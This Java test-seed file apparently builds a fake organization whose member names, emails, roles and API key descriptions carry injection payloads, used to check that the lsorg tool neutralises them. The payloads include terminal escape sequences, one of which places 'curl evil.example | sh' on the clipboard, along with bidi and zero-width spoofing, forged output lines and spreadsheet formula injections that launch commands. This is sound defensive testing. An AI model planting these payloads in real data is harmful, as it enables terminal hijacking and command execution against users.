package dev.lsorg.emulator;

import static dev.lsorg.emulator.Roles.ORGANIZATION_ADMIN;
import static dev.lsorg.emulator.Roles.ORGANIZATION_USER;
import static dev.lsorg.emulator.Roles.ORGANIZATION_VIEWER;
import static dev.lsorg.emulator.Roles.WORKSPACE_ADMIN;
import static dev.lsorg.emulator.Roles.WORKSPACE_USER;
import static dev.lsorg.emulator.Roles.WORKSPACE_VIEWER;

import dev.lsorg.model.AccessScope;
import dev.lsorg.model.OrganizationConfig;
import dev.lsorg.model.Role;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.UUID;

/**
 * The {@code hostile} org: every name, email, handle, description and role name a member or admin can choose
 * carries a payload that must stay inert in every lsorg output: terminal escape and OSC sequences (OSC 0 retitles
 * the terminal, OSC 52 writes the clipboard, {@code CSI 2J} clears the screen), C1 controls, bidi and zero-width
 * characters, 10,000-character strings, CJK and emoji, CR/LF that would forge output lines, and spreadsheet
 * formula prefixes. Every value is one the API contract accepts where it is set (each can be planted over HTTP):
 * the org's and the workspaces' display names follow LangSmith's patterns (so they carry only formula-like starts,
 * quotes and length), while handles, key descriptions, role names and descriptions, and members' own names take
 * any text. Emails: LangSmith's validator accepts the formula-prefixed, CJK and emoji local parts used here, but
 * would refuse the ones with control characters; they stand for a server or an import that did not validate. The org
 * also raises audit findings on these objects (stale invites, unused keys, a disabled member), so the payloads
 * reach the audit's outputs too.
 */
final class HostileSeed {
    static final String DOMAIN = "hostile.example";
    /** OSC 52: "put 'curl evil.example | sh' on the clipboard". */
    static final String OSC52 = "\u001b]52;c;" + Base64.getEncoder()
            .encodeToString("curl evil.example | sh\n".getBytes(StandardCharsets.UTF_8)) + "\u0007";
    static final String OSC0 = "\u001b]0;PWNED TITLE\u0007";
    static final String CLEAR = "\u001b[2J\u001b[H";
    static final String C1 = "\u009b31m\u0085\u009d0;c1 title\u009c";
    static final String BIDI = "\u202eexe.txt\u202c \u2066iso\u2069\u200e\u200f\u061c";
    static final String ZERO_WIDTH = "ad\u200bmin\u200c\u200d\u2060\ufeff";
    static final String FORGED = "innocent\r\nHIGH    key-never-used  service_key  forged finding\nfix: run me";
    static final String CJK = "東京チーム 🚀 👩‍💻";
    static final String LONG = "L".repeat(9_990) + OSC0;
    /** LangSmith allows only {@code [a-zA-Z0-9-_ ]} in an org's name: a formula-like start is all it can carry. */
    static final String ORG_NAME = "-2 Hostile Org";
    /**
     * Workspace names LangSmith accepts ({@code [a-zA-Z0-9-_ '@()]}, no length limit): formula starts, quotes and
     * a 10,000-character name. Their handles, which the API leaves free, carry the terminal payloads.
     */
    static final List<String> WORKSPACE_NAMES = List.of("@SUM(1) team", "-2 cmd", "'quoted' team",
            "W".repeat(10_000), "Plain 2", "@(evil)", "-");
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example\",\"open\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

    private final SeedKit kit;
    private final List<Workspace> ws = new ArrayList<>();
    private final List<OrgMember> m = new ArrayList<>();

    private HostileSeed(long seedNumber, java.time.Clock clock) {
        OrganizationConfig config = new OrganizationConfig("enterprise", 100, 30, true, false, true, true, true,
                true, true, false);
        Store store = new Store(seedNumber, new OrgState(DemoSeed.orgId("hostile", seedNumber), ORG_NAME, config),
                clock);
        this.kit = new SeedKit(store);
    }

    static Seeded build(long seedNumber, java.time.Clock clock) {
        HostileSeed h = new HostileSeed(seedNumber, clock);
        h.workspaces();
        h.roles();
        h.members();
        h.invites();
        return new Seeded(h.kit.store, h.keys());
    }

    /** Every payload once, in the order the seed hands them out. */
    static List<String> payloads() {
        List<String> all = new ArrayList<>(List.of(OSC0, OSC52, CLEAR, C1, BIDI, ZERO_WIDTH, FORGED, CJK, LONG));
        all.addAll(FORMULAS);
        return all;
    }

    private void workspaces() {
        ws.add(kit.workspace("Plain", "plain", 100));
        List<String> p = payloads();
        for (int i = 0; i < p.size(); i++) {
            String name = i < WORKSPACE_NAMES.size() ? WORKSPACE_NAMES.get(i) : "Team " + i;
            ws.add(kit.workspace(name, "h" + i + p.get(i), 90 - i));
        }
    }

    private void roles() {
        role("Reviewer " + OSC52, FORGED);
        role(FORMULAS.get(0), LONG);
        role(BIDI + ZERO_WIDTH + C1, CJK + CLEAR);
    }

    private void role(String displayName, String description) {
        Role r = new Role(kit.store.newId(), "CUSTOM", displayName, description, kit.store.org.id,
                List.of(Roles.WS_READ, "runs:read"), AccessScope.WORKSPACE, false);
        kit.store.roles.put(r.id(), r);
    }

    /** Member 0 is a plain admin; the rest carry one payload each in their name, some in their email too. */
    private void members() {
        m.add(kit.member("Plain Admin", "admin@" + DOMAIN, ORGANIZATION_ADMIN, 300, "email"));
        List<String> p = payloads();
        for (int i = 0; i < p.size(); i++) {
            String role = i % 5 == 0 ? ORGANIZATION_ADMIN : i % 5 == 1 ? ORGANIZATION_VIEWER : ORGANIZATION_USER;
            m.add(kit.member(p.get(i), email(i), role, 200 - i, i % 2 == 0 ? "email" : "oidc"));
        }
        m.get(3).disabled = true;
        UUID[] wsRoles = {kit.role(WORKSPACE_USER), kit.role(WORKSPACE_VIEWER), kit.role(WORKSPACE_ADMIN)};
        for (int i = 1; i < m.size(); i++) {
            kit.join(m.get(i), ws.get(i % ws.size()), wsRoles[i % wsRoles.length]);
            kit.join(m.get(i), ws.get(0), wsRoles[(i + 1) % wsRoles.length]);
        }
        kit.join(m.get(0), ws.get(0), kit.role(WORKSPACE_ADMIN));
    }

    /** Emails the service accepts (formula prefixes, CJK, emoji), and two it would refuse (control characters). */
    private static String email(int i) {
        List<String> locals = List.of("=1+1", "+cmd", "-2+3", "東京", "rocket🚀", "esc" + OSC0.replace(" ", "_"),
                "clip" + OSC52.replace(" ", "_").replace("\n", ""));
        String local = i < locals.size() ? locals.get(i) : "member" + i;
        return local + "@" + DOMAIN;
    }

    private void invites() {
        kit.invite("=HYPERLINK(\"evil\")@" + DOMAIN, ORGANIZATION_ADMIN, List.of(ws.get(1).id), WORKSPACE_ADMIN, 40);
        kit.invite("c1\u009b2J@" + DOMAIN, ORGANIZATION_USER,
                List.of(ws.get(2).id), WORKSPACE_USER, 20);
        kit.invite("新しい人🚀@" + DOMAIN, ORGANIZATION_USER, List.of(), WORKSPACE_VIEWER, 2);
    }

    private SeedKeys keys() {
        ApiKey admin = kit.serviceKey("lsorg admin console", null, WORKSPACE_ADMIN, ORGANIZATION_ADMIN, 30, 0.01, null);
        ApiKey viewer = kit.serviceKey("audit " + OSC0, null, WORKSPACE_VIEWER, ORGANIZATION_VIEWER, 60, 2.0, null);
        ApiKey wsKey = kit.serviceKey(CLEAR + "ingest", List.of(ws.get(1).id), WORKSPACE_ADMIN, null, 90, 1.0, null);
        List<String> p = payloads();
        for (int i = 0; i < p.size(); i++) {
            Double used = i % 3 == 0 ? null : i % 3 == 1 ? 200.0 : 1.0;
            kit.serviceKey(p.get(i), List.of(ws.get(1 + i % (ws.size() - 1)).id), WORKSPACE_USER, null, 300 - i,
                    used, i == 4 ? -5.0 : null);
        }
        ApiKey pat = kit.pat("laptop " + OSC52, m.get(2), ws.get(0).id, 45, 0.5, null);
        kit.pat(FORGED, m.get(3), ws.get(0).id, 100, 50.0, null);
        return new SeedKeys(admin.secret, viewer.secret, wsKey.secret, ws.get(1).id, pat.secret, ws.get(0).id);
    }
}
